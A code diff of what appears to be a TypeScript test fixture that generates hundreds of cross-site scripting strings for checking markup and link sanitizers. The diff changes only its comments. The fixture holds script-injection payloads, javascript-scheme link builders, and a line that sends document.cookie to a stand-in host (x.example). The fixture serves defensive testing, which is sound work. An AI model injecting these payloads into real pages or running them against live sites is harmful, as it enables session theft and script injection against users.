@@ -1,4 +1,4 @@
-/** Five hundred and more texts that would run something, were they ever taken for markup or for an address; made of parts of our own. */
+/** More than five hundred texts that would run something if they were ever treated as markup or as an address; composed of our own parts. */
 const doing = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'import("//x.example")', 'fetch("//x.example?"+document.cookie)']
 const tags = [
   'img src=x',
@@ -60,5 +60,5 @@ export const hostileTexts: readonly string[] = [
   '<object data=data:text/html,<script>alert(1)</script>>',
 ]
 
-/** The same as addresses. */
+/** The same as link addresses. */
 export const hostileLinks: readonly string[] = schemes.flatMap((scheme) => ['alert(1)', '<script>alert(1)</script>', ''].map((rest) => scheme + rest))
